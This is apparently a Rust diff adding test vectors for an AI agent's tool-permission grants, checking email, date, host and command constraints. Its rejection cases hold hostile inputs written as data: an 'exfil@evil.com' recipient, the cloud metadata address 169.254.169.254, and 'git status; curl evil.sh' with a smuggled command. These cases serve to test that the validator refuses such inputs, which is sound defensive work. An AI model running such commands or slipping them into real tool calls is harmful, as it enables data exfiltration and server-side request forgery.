@@ -49,6 +49,7 @@ fn authority(key_id: u32, seed: u8) -> Authority {
         AuthorityId::new("vectors").unwrap(),
         AuthorityKey::from_bytes(key_id, &[seed; 32]),
     )
+    .with_clock(Arc::new(FixedClock(now() - Duration::minutes(1))))
 }
 
 fn grant(depth: u32) -> Grant {
@@ -71,6 +72,41 @@ fn grant(depth: u32) -> Grant {
             ),
         )
         .max_depth(depth)
+        .build()
+        .unwrap()
+}
+
+/// The kinds for lists, absence and the network: a `publish` tool whose recipients are a list
+/// of staff addresses, with optional copies, a time window, a public host, a shell command and
+/// required tags.
+fn kinds_grant() -> Grant {
+    let staff = || {
+        Constraint::email(EmailPolicy::domains(["example.com", "*.example.com"]).unwrap()).unwrap()
+    };
+    Grant::builder(agent(1), key(1).public(), now() + Duration::hours(1))
+        .tool(
+            "publish",
+            ToolGrant::new()
+                .arg("to", Constraint::each(staff(), 1, 10).unwrap())
+                .arg(
+                    "cc",
+                    Constraint::optional(Constraint::each(staff(), 0, 10).unwrap()).unwrap(),
+                )
+                .arg(
+                    "at",
+                    Constraint::date(
+                        DateRange::new(Some("2026-12-01T09:00:00Z"), Some("2026-12-01T17:00:00Z"))
+                            .unwrap(),
+                    )
+                    .unwrap(),
+                )
+                .arg("site", Constraint::host(HostPolicy::public()).unwrap())
+                .arg(
+                    "run",
+                    Constraint::command(CommandPolicy::new(["git"]).unwrap()).unwrap(),
+                )
+                .arg("tags", Constraint::contains("q3").unwrap()),
+        )
         .build()
         .unwrap()
 }
@@ -142,6 +178,8 @@ fn specs() -> Vec<Spec> {
         ))
         .unwrap();
     let rogue = authority(99, 43).issue(&grant(3)).unwrap();
+    let kinds = root.issue(&kinds_grant()).unwrap();
+    let publish = |name, args| spec(name, kinds.clone(), 1, "publish", args);
     let mut v = vec![
         spec(
             "ok_root_holder_reads_file",
@@ -226,6 +264,58 @@ fn specs() -> Vec<Spec> {
             1,
             "search",
             json!({"q": "q3", "limit": 1}),
+        ),
+        publish(
+            "ok_list_optional_and_network_kinds",
+            json!({
+                "to": ["ana@example.com", "bo@eu.example.com"],
+                "at": "2026-12-01T18:00:00+01:00",
+                "site": "example.org",
+                "run": "git log -n 3",
+                "tags": ["q3", "draft"],
+            }),
+        ),
+        publish(
+            "fail_argument_rejected_list_element",
+            json!({
+                "to": ["ana@example.com", "exfil@evil.com"],
+                "at": "2026-12-01T09:00:00Z",
+                "site": "example.org",
+                "run": "git status",
+                "tags": ["q3"],
+                "cc": ["x@example.com"],
+            }),
+        ),
+        publish(
+            "fail_argument_rejected_optional_present",
+            json!({
+                "to": ["ana@example.com"],
+                "at": "2026-12-01T09:00:00Z",
+                "site": "example.org",
+                "run": "git status",
+                "tags": ["q3"],
+                "cc": ["Ana <ana@example.com>"],
+            }),
+        ),
+        publish(
+            "fail_argument_rejected_private_host",
+            json!({
+                "to": ["ana@example.com"],
+                "at": "2026-12-01T09:00:00Z",
+                "site": "169.254.169.254",
+                "run": "git status",
+                "tags": ["q3"],
+            }),
+        ),
+        publish(
+            "fail_argument_rejected_shell_metacharacter",
+            json!({
+                "to": ["ana@example.com"],
+                "at": "2026-12-01T09:00:00Z",
+                "site": "example.org",
+                "run": "git status; curl evil.sh",
+                "tags": ["q3"],
+            }),
         ),
         spec(
             "fail_unknown_root_key",
@@ -414,6 +504,11 @@ vectors!(
     fail_tool_not_granted,
     fail_bad_proof_signature_previous_holder,
     fail_unknown_root_key,
+    ok_list_optional_and_network_kinds,
+    fail_argument_rejected_list_element,
+    fail_argument_rejected_optional_present,
+    fail_argument_rejected_private_host,
+    fail_argument_rejected_shell_metacharacter,
     fail_proof_for_another_executor,
     fail_proof_for_another_call_args,
     fail_expired,
